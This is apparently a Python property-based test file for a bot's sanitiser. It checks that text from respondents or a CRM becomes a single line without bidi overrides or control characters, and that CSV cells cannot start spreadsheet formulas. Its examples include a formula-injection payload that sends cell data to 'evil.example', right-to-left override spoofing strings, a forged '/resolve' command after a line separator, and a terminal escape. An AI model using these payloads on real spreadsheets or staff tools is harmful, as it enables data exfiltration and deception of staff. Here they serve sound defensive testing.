"""Person-supplied text as staff see it (bot.staff_text): one line, in its own direction,
never a formula in a spreadsheet. Property-based: whatever a respondent or a CRM sends."""

from __future__ import annotations

import csv
import io

from bidi import get_display
from hypothesis import example, given, settings
from hypothesis import strategies as st

from bot.staff_text import BIDI_FORMATTING, FORMULA_STARTS, csv_cell, staff_line, write_csv

LINE_BREAKS = "\n\v\f\r\x1c\x1d\x1e\x85\u2028\u2029"
CONTROLS = [chr(c) for c in (*range(0x20), *range(0x7F, 0xA0))]
KEPT_MARKS = "\u200e\u200f\u061c\u200c\u200d"  # LRM, RLM, ALM, ZWNJ, ZWJ
HOSTILE = st.sampled_from([*LINE_BREAKS, *BIDI_FORMATTING, *CONTROLS, *KEPT_MARKS, "\t",
                           "=", "-", "@", "+", " "])
# Text as respondents send it: any character, weighted towards the dangerous ones and the
# scripts of Sada's languages.
TEXT = st.lists(st.one_of(st.characters(), HOSTILE, st.sampled_from("سلام ۱۲۳ abc")),
                max_size=40).map("".join)
SETTINGS = settings(max_examples=60, deadline=None)


@SETTINGS
@given(TEXT)
@example("fine\u2028Resolve: /resolve 1 done")
@example("\u202emoc.live")
def test_one_line_without_bidi_formatting_or_controls(text: str) -> None:
    shown = staff_line(text)
    assert len(shown.splitlines()) <= 1
    assert not set(shown) & set(BIDI_FORMATTING + LINE_BREAKS)
    assert not set(shown) & (set(CONTROLS) - {" "})
    assert staff_line(shown) == shown  # idempotent


@SETTINGS
@given(TEXT)
def test_the_marks_people_type_in_arabic_and_persian_stay(text: str) -> None:
    shown = staff_line(text)
    for mark in KEPT_MARKS:
        assert shown.count(mark) == text.count(mark)


@SETTINGS
@given(st.text(st.characters(blacklist_characters=[*LINE_BREAKS, *BIDI_FORMATTING,
                                                   *CONTROLS])))
def test_harmless_text_is_left_alone(text: str) -> None:
    assert staff_line(text) == text


@SETTINGS
@given(TEXT)
@example("\u202eevil")
@example("\u2067\u202e x")
def test_a_value_cannot_reorder_the_line_around_it(text: str) -> None:
    """Laid out by the Unicode bidi algorithm (python-bidi), the alert's "Contact:" line
    still starts with its label and ends with Sada's words, whatever the name holds."""
    line = f"Contact: {staff_line(text)} (contact 42) end"
    shown = get_display(line, base_dir="L")
    assert shown.startswith("Contact: ") and shown.endswith(" end")


def test_lines_join_with_the_joiner() -> None:
    assert staff_line("a\r\n\r\nb\u2029c\n") == "a / b / c"
    assert staff_line("Ali\nReza", joiner=" ") == "Ali Reza"
    assert staff_line("می\u200cخواهم\u200f") == "می\u200cخواهم\u200f"
    assert staff_line("\x1b[2Jgone\x00") == "[2Jgone"  # no terminal escape, no NUL


# --- spreadsheets ---------------------------------------------------------------------------


@SETTINGS
@given(TEXT)
@example('=HYPERLINK("http://evil.example/?"&A1,"click")')
def test_no_text_cell_starts_a_formula(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.removeprefix("'") == text or cell == text  # nothing else changes


@SETTINGS
@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_stay_numbers_negative_ones_too(number: float) -> None:
    cell = csv_cell(number)
    assert isinstance(cell, int | float) and (cell < 0) == (number < 0 and cell != 0)


def test_written_csv_reads_back_as_text_and_numbers() -> None:
    buffer = io.StringIO()
    write_csv(buffer, ["name", "score", "change"],
              [["=1+1", 3, -12.5], ["-5 stars", None, -3], ["\tx", 0.12345, 0]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["name", "score", "change"], ["'=1+1", "3", "-12.5"],
                    ["'-5 stars", "", "-3"], ["'\tx", "0.1235", "0"]]
